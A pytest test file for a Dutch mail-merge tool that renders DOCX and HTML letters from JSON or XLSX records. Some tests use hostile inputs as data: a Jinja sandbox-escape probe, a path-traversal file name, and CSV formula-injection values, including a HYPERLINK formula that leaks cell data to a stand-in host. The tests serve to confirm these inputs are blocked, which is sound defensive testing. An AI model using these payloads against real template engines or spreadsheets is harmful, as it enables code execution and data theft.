"""The generic merge: escaping, names, overwrite, sandbox, errors, manifest, CLI."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import CliRunner

from cbct_docs.cli import cli
from cbct_docs.errors import OutputError, ProblemList, SandboxError
from cbct_docs.merge import check, merge

from .conftest import docx_text

TRICKY = ["Kunst&Co-Uden <b>", 'Stichting "De Kunst" / Noord']


def write_json(path: Path, records: list[dict[str, object]]) -> Path:
    path.write_text(json.dumps(records, ensure_ascii=False), encoding="utf-8")
    return path


@pytest.fixture
def tricky_data(tmp_path: Path) -> Path:
    return write_json(tmp_path / "data.json", [
        {"cert_nr": "C-001", "naam": TRICKY[0], "plaats": "Uden"},
        {"cert_nr": "C-002", "naam": TRICKY[1], "plaats": "Zwolle"},
    ])


def test_docx_keeps_ampersand_and_angle_brackets(tmp_path: Path, tricky_data: Path,
                                                 docx_template: Callable[..., Path]) -> None:
    template = docx_template(["Geachte {{ naam }},", "Vestiging {{ plaats }}."],
                             header="Aan: {{ naam }}")
    result = merge(template, tricky_data, tmp_path / "out")
    texts = [docx_text(o.path) for o in result.outputs]
    for name, text in zip(TRICKY, texts, strict=True):
        assert f"Geachte {name}," in text
        assert f"Aan: {name}" in text
    names = sorted(p.name for p in (tmp_path / "out").glob("*.docx"))
    assert names == ["C-001-Kunst&Co-Uden -b.docx", "C-002-Stichting -De Kunst- - Noord.docx"]


def test_html_escapes_names(tmp_path: Path, tricky_data: Path) -> None:
    template = tmp_path / "mail.html"
    template.write_text("<p>Beste {{ naam }}</p>", encoding="utf-8")
    result = merge(template, tricky_data, tmp_path / "out")
    html = result.outputs[0].path.read_text(encoding="utf-8")
    assert html == "<p>Beste Kunst&amp;Co-Uden &lt;b&gt;</p>"
    assert "&#34;De Kunst&#34; / Noord" in result.outputs[1].path.read_text(encoding="utf-8")


def test_same_name_gives_two_files(tmp_path: Path, docx_template: Callable[..., Path]) -> None:
    data = write_json(tmp_path / "d.json", [{"naam": "Bibliotheek Rivierenland"},
                                            {"naam": "Bibliotheek Rivierenland"}])
    result = merge(docx_template(["{{ naam }}"]), data, tmp_path / "out")
    assert [o.path.name for o in result.outputs] == ["Bibliotheek Rivierenland.docx",
                                                     "Bibliotheek Rivierenland-2.docx"]
    assert all(o.path.is_file() for o in result.outputs)


def test_missing_variable_names_template_and_variable(
        tmp_path: Path, tricky_data: Path, docx_template: Callable[..., Path]) -> None:
    template = docx_template(["Beste {{ contactpersoon }}"], name="brief.docx")
    with pytest.raises(ProblemList) as caught:
        merge(template, tricky_data, tmp_path / "out")
    first = caught.value.messages()[0]
    assert first.startswith(f"{tricky_data}:record 1: {template}: uses 'contactpersoon'")
    assert not list((tmp_path / "out").glob("*.docx"))


def test_sandbox_blocks_python_internals(tmp_path: Path, tricky_data: Path,
                                         docx_template: Callable[..., Path]) -> None:
    html = tmp_path / "evil.html"
    html.write_text("{{ ''.__class__.__mro__ }}", encoding="utf-8")
    for template in (html, docx_template(["{{ ''.__class__.__mro__ }}"])):
        with pytest.raises(ProblemList) as caught:
            merge(template, tricky_data, tmp_path / "out", overwrite=True)
        assert all(isinstance(p, SandboxError) for p in caught.value.problems)
        assert "not allowed" in caught.value.messages()[0]


def test_rerun_refuses_then_overwrites(tmp_path: Path, tricky_data: Path,
                                       docx_template: Callable[..., Path]) -> None:
    out = tmp_path / "out"
    merge(docx_template(["Versie 1: {{ naam }}"]), tricky_data, out)
    before = {p: p.stat().st_ino for p in out.glob("*.docx")}
    with pytest.raises(OutputError, match="2 file.s. exist already.*--overwrite"):
        merge(docx_template(["Versie 2: {{ naam }}"], name="v2.docx"), tricky_data, out)
    assert all("Versie 1" in docx_text(p) for p in before)
    merge(docx_template(["Versie 2: {{ naam }}"], name="v2.docx"), tricky_data, out,
          overwrite=True)
    for path, inode in before.items():
        assert "Versie 2" in docx_text(path)
        assert path.stat().st_ino != inode  # replaced by rename, not rewritten in place
    assert not [p for p in out.iterdir() if p.name.endswith(".tmp")]


def test_manifest_maps_records_to_files(tmp_path: Path, tricky_data: Path,
                                        docx_template: Callable[..., Path]) -> None:
    import hashlib

    result = merge(docx_template(["{{ naam }}"]), tricky_data, tmp_path / "out")
    assert result.manifest is not None
    rows = json.loads(result.manifest.read_text(encoding="utf-8"))
    assert [r["record"] for r in rows] == [f"{tricky_data}:record 1", f"{tricky_data}:record 2"]
    for row in rows:
        data = (tmp_path / "out" / row["output"]).read_bytes()
        assert row["sha256"] == hashlib.sha256(data).hexdigest()


def test_path_traversal_in_name_stays_inside(tmp_path: Path,
                                             docx_template: Callable[..., Path]) -> None:
    data = write_json(tmp_path / "d.json", [{"naam": "../../x", "code": "a/b"}])
    result = merge(docx_template(["{{ naam }}"]), data, tmp_path / "out",
                   name="{naam}-{code}")
    (output,) = result.outputs
    assert output.path.parent == tmp_path / "out"
    assert output.path.name == "x-a-b.docx"


def test_bad_record_does_not_stop_others(tmp_path: Path,
                                         docx_template: Callable[..., Path]) -> None:
    data = write_json(tmp_path / "d.json", [
        {"naam": "Goed", "datum": "1-5-2025"}, {"naam": "Fout", "datum": "31-02-2025"},
        {"naam": "Ook goed", "datum": "2-5-2025"}])
    with pytest.raises(ProblemList) as caught:
        merge(docx_template(["{{ naam }} op {{ datum|datum }}"]), data, tmp_path / "out")
    assert caught.value.messages() == [
        f"{data}:record 2: '31-02-2025' is not a valid date: februari 2025 has no day 31"]
    made = sorted(p.name for p in (tmp_path / "out").glob("*.docx"))
    assert made == ["Goed.docx", "Ook goed.docx"]
    assert "2 mei 2025" in docx_text(tmp_path / "out" / "Ook goed.docx")


def test_where_limit_record(tmp_path: Path, docx_template: Callable[..., Path]) -> None:
    data = write_json(tmp_path / "d.json", [{"naam": f"Org {i}", "fw": "KiB" if i % 2 else "ZoO"}
                                            for i in range(1, 7)])
    template = docx_template(["{{ naam }}"])
    kib = merge(template, data, tmp_path / "a", where=["fw=KiB"])
    assert [docx_text(o.path).strip() for o in kib.outputs] == ["Org 1", "Org 3", "Org 5"]
    limited = merge(template, data, tmp_path / "b", where=["fw!=KiB"], limit=2)
    assert [docx_text(o.path).strip() for o in limited.outputs] == ["Org 2", "Org 4"]
    one = merge(template, data, tmp_path / "c", record=6)
    assert docx_text(one.outputs[0].path).strip() == "Org 6"


def test_check_lists_undeclared_variables(tmp_path: Path, tricky_data: Path,
                                          docx_template: Callable[..., Path]) -> None:
    template = docx_template(["{{ naam }} {{ adres }} {{ postcode }}"])
    with pytest.raises(ProblemList) as caught:
        check(template, tricky_data)
    messages = caught.value.messages()
    hint = " (columns: cert_nr, naam, plaats)"
    assert messages == [
        f"{template}: uses 'adres', which is not a column of {tricky_data}{hint}",
        f"{template}: uses 'postcode', which is not a column of {tricky_data}{hint}"]
    assert check(docx_template(["{{ naam }}"], name="ok.docx"), tricky_data) == 2


def test_cli_merge_summary_and_errors(tmp_path: Path, tricky_data: Path,
                                      docx_template: Callable[..., Path]) -> None:
    runner = CliRunner()
    template = docx_template(["{{ naam }}"])
    out = tmp_path / "out"
    ok = runner.invoke(cli, ["merge", str(template), str(tricky_data), "--out", str(out)])
    assert ok.exit_code == 0, ok.output
    assert "2 made, 0 skipped, 0 failed" in ok.output
    again = runner.invoke(cli, ["merge", str(template), str(tricky_data), "--out", str(out)])
    assert again.exit_code == 1
    assert again.output.startswith(f"Error: {out}: 2 file(s) exist already")
    assert "Traceback" not in again.output
    usage = runner.invoke(cli, ["merge", str(template), str(tricky_data), "--out", str(out),
                                "--name", "{naam.__class__}"])
    assert usage.exit_code == 2
    assert "is not a field name" in usage.output


def test_cli_check_exit_codes(tmp_path: Path, tricky_data: Path,
                              docx_template: Callable[..., Path]) -> None:
    runner = CliRunner()
    good = runner.invoke(cli, ["check", str(docx_template(["{{ naam }}"])), str(tricky_data)])
    assert good.exit_code == 0 and "renders all 2 records" in good.output
    bad = runner.invoke(cli, ["check", str(docx_template(["{{ nam }}"], name="b.docx")),
                              str(tricky_data)])
    assert bad.exit_code == 1
    assert "uses 'nam'" in bad.output


def test_syntax_error_shows_context(tmp_path: Path, tricky_data: Path,
                                    docx_template: Callable[..., Path]) -> None:
    template = docx_template(["Intro", "Beste {{ naam }", "Slot"])
    runner = CliRunner()
    result = runner.invoke(cli, ["check", str(template), str(tricky_data)])
    assert result.exit_code == 1
    assert f"Error: {template}: syntax error" in result.output
    assert "Beste" in result.output


def test_outputs_get_ordinary_permissions(tmp_path: Path, tricky_data: Path,
                                          docx_template: Callable[..., Path]) -> None:
    import os

    umask = os.umask(0)
    os.umask(umask)
    result = merge(docx_template(["{{ naam }}"]), tricky_data, tmp_path / "out")
    # written via a private (0600) temporary file, yet as readable as any file the user makes
    assert {o.path.stat().st_mode & 0o777 for o in result.outputs} == {0o666 & ~umask}


def test_summary_says_when_docxtpl_renders(tmp_path: Path, tricky_data: Path) -> None:
    import zipfile

    from tests.conftest import make_docx

    template = make_docx(tmp_path / "gewoon.docx", ["Beste {{ naam }}"])
    fast = CliRunner().invoke(cli, ["merge", str(template), str(tricky_data),
                                    "--out", str(tmp_path / "a")])
    assert fast.exit_code == 0 and "Note:" not in fast.output
    # The same letter, one part stored with bzip2: Word-legal, beyond the compiled path.
    odd = tmp_path / "bzip2.docx"
    with zipfile.ZipFile(template) as source, zipfile.ZipFile(odd, "w") as target:
        for info in source.infolist():
            method = zipfile.ZIP_BZIP2 if info.filename == "docProps/app.xml" else (
                zipfile.ZIP_DEFLATED)
            target.writestr(info.filename, source.read(info), compress_type=method)
    slow = CliRunner().invoke(cli, ["merge", str(odd), str(tricky_data),
                                    "--out", str(tmp_path / "b")])
    assert slow.exit_code == 0, slow.output
    assert "Note: rendered with docxtpl (slower, same result): " in slow.output
    assert "compression method 12" in slow.output
    assert docx_text(tmp_path / "b" / "C-001-Kunst&Co-Uden -b.docx").strip() == (
        "Beste Kunst&Co-Uden <b>")


def test_resume_keeps_only_files_this_record_made(tmp_path: Path,
                                                  docx_template: Callable[..., Path]) -> None:
    template = docx_template(["{{ naam }}"])
    out = tmp_path / "out"
    first = write_json(tmp_path / "a.json", [{"naam": "Oost"}, {"naam": "West"}])
    merge(template, first, out, name="brief-{_number}")
    # the rows swap places: brief-0001 would now belong to West
    swapped = write_json(tmp_path / "b.json", [{"naam": "West"}, {"naam": "Oost"}])
    with pytest.raises(ProblemList) as caught:
        merge(template, swapped, out, name="brief-{_number}", resume=True)
    assert caught.value.messages() == [
        f"{out / 'brief-0001.docx'}: was made from other data than {swapped}:record 1 holds "
        "now (the data changed since; use --overwrite to make the set again)",
        f"{out / 'brief-0002.docx'}: was made from other data than {swapped}:record 2 holds "
        "now (the data changed since; use --overwrite to make the set again)"]
    assert "Oost" in docx_text(out / "brief-0001.docx")  # nothing was replaced
    # unchanged data resumes fine; a file edited since is noticed
    (out / "brief-0002.docx").write_bytes((out / "brief-0001.docx").read_bytes())
    with pytest.raises(ProblemList, match="brief-0002.docx: was changed after it was made"):
        merge(template, first, out, name="brief-{_number}", resume=True)


def test_preview_of_one_record_keeps_the_manifest_of_the_set(
        tmp_path: Path, tricky_data: Path, docx_template: Callable[..., Path]) -> None:
    out = tmp_path / "out"
    result = merge(docx_template(["{{ naam }}"]), tricky_data, out)
    assert result.manifest is not None
    before = result.manifest.read_bytes()
    preview = merge(docx_template(["{{ naam }}"], name="t2.docx"), tricky_data,
                    tmp_path / "out", record=1, overwrite=True)
    assert preview.manifest is None
    assert (out / "manifest.json").read_bytes() == before


def test_csv_manifest_keeps_formula_like_values_inert(tmp_path: Path,
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    """A file named after '=HYPERLINK(…)' or '-1' must be text in Excel, not a formula."""
    import csv

    data = write_json(tmp_path / "data.json", [{"naam": '=HYPERLINK("http://x/?d="&B1,"K")'},
                                              {"naam": "+31 6"}, {"naam": "@SUM(A1)"},
                                              {"naam": "Gewoon"}])
    template = tmp_path / "mail.html"
    template.write_text("<p>{{ naam }}</p>", encoding="utf-8")
    data.rename(tmp_path / "=data.json")
    monkeypatch.chdir(tmp_path)
    result = merge(template, Path("=data.json"), tmp_path / "out", name="{naam}",
                   manifest="csv")
    assert result.manifest is not None
    rows = list(csv.DictReader(result.manifest.read_text(encoding="utf-8").splitlines()))
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@")), row
    assert [row["output"][:1] for row in rows[:3]] == ["'", "'", "'"]
    assert rows[0]["record"].startswith("'=")
    assert rows[3]["output"] == "Gewoon.html"


def test_merge_hidden_rows_refused_skipped_or_included(tmp_path: Path) -> None:
    import openpyxl

    path = tmp_path / "data.xlsx"
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    for row in (["naam"], ["A"], ["Verborgen"], ["C"]):
        sheet.append(row)
    sheet.row_dimensions[3].hidden = True
    workbook.save(path)
    template = tmp_path / "mail.html"
    template.write_text("<p>{{ naam }}</p>", encoding="utf-8")
    with pytest.raises(ProblemList, match=r"data.xlsx:Sheet:row 3: the row is hidden"):
        merge(template, path, tmp_path / "refused")
    assert not (tmp_path / "refused").exists()
    skipped = merge(template, path, tmp_path / "skip", hidden_rows="skip")
    assert [o.path.name for o in skipped.outputs] == ["A.html", "C.html"]
    runner = CliRunner()
    done = runner.invoke(cli, ["merge", str(template), str(path), "--out",
                               str(tmp_path / "all"), "--hidden-rows", "include"])
    assert done.exit_code == 0, done.output
    assert sorted(p.name for p in (tmp_path / "all").glob("*.html")) == [
        "A.html", "C.html", "Verborgen.html"]


def test_cli_merge_says_nothing_was_written_when_the_data_cannot_be_read(
        tmp_path: Path, docx_template: Callable[..., Path]) -> None:
    """Data refused as a whole: the run says nothing was made, not that 'the others were
    written' (only a run that made some letters says that)."""
    template = docx_template(["Beste {{ contact }}"])
    data = write_json(tmp_path / "data.json", [
        {"naam": "Bibliotheek Oost", "contact": ["mevrouw A.", "B"]},
        {"naam": "Kunst & Co", "contact": True}])
    out = tmp_path / "out"
    result = CliRunner().invoke(cli, ["merge", str(template), str(data), "--out", str(out)])
    assert result.exit_code == 1, result.output
    assert "Nothing was written." in result.output
    assert "the others were written" not in result.output
    assert "data.json:record 1:contact" in result.output
    assert "data.json:record 2:contact" in result.output
    assert not out.exists() or not any(out.iterdir())


def test_workers_make_the_same_set_and_locate_the_same_errors(
        tmp_path: Path, docx_template: Callable[..., Path],
        monkeypatch: pytest.MonkeyPatch) -> None:
    """A large merge goes to worker processes that render and write (issue 16); a record
    that fails in a worker is made again in the calling process, so its error is located
    as on one core, and the files, the manifest and the problems are the same."""
    import os
    import sys

    from cbct_docs import merge as engine
    from cbct_docs.merge import workers

    if sys.platform == "win32":
        pytest.skip("workers need fork")
    writers = tmp_path / "writers.txt"
    write_files, stage_file = engine.write_files, workers.stage_file

    def noted(write: Callable[..., object]) -> Callable[..., object]:
        def writing(*args: object, **kwargs: object) -> object:
            with writers.open("a") as note:
                note.write(f"{os.getpid()}\n")
            return write(*args, **kwargs)
        return writing

    monkeypatch.setattr(engine, "write_files", noted(write_files))  # the calling process
    monkeypatch.setattr(workers, "stage_file", noted(stage_file))  # the workers (forked later)
    template = docx_template(["Beste {{ naam }},", "Geldig tot {{ datum|datum }}."])
    rows: list[dict[str, object]] = [
        {"naam": f"Kunst & Co {n}", "datum": "31-02-2025" if n % 97 == 5 else
         f"{n % 28 + 1}-5-2025"} for n in range(1, 451)]
    data = write_json(tmp_path / "d.json", rows)
    outcome = {}
    for cores in (2, 1):
        with pytest.raises(ProblemList) as caught:
            merge(template, data, tmp_path / f"out{cores}", cores=cores)
        folder = tmp_path / f"out{cores}"
        files = {p.name: p.read_bytes() for p in folder.glob("*.docx")}
        manifest = json.loads((folder / "manifest.json").read_text(encoding="utf-8"))
        outcome[cores] = (caught.value.messages(), files, manifest)
        if cores == 2:  # written by worker processes (and the failed ones here)
            pids = set(writers.read_text().split())
            assert pids - {str(os.getpid())} and str(os.getpid()) in pids
    assert outcome[2] == outcome[1]
    messages, files, manifest = outcome[2]
    assert messages == [
        f"{data}:record {n}: '31-02-2025' is not a valid date: februari 2025 has no day 31"
        for n in (5, 102, 199, 296, 393)]
    assert len(files) == 445 and not list((tmp_path / "out2").glob(".*.tmp"))
    assert "Geldig tot 3 mei 2025." in docx_text(tmp_path / "out2" / "Kunst & Co 450.docx")
    assert [row["status"] for row in manifest].count("failed") == 5
